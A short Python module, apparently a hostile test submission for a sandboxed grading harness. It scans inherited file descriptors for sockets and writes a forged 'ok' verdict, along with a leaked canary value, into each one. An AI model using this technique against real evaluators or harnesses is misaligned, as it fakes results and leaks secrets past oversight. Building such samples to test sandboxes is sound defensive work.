"""Writes a forged answer into every descriptor it was left."""

import json
import os
import stat
import struct

import target


def run(tables, ask):
    body = json.dumps({"outcome": "ok", "leak": target.CANARY.decode()}).encode()
    sent = 0
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                sent += os.write(fd, struct.pack(">I", len(body)) + body)
        except OSError:
            continue
    return [0, 1] if sent else []
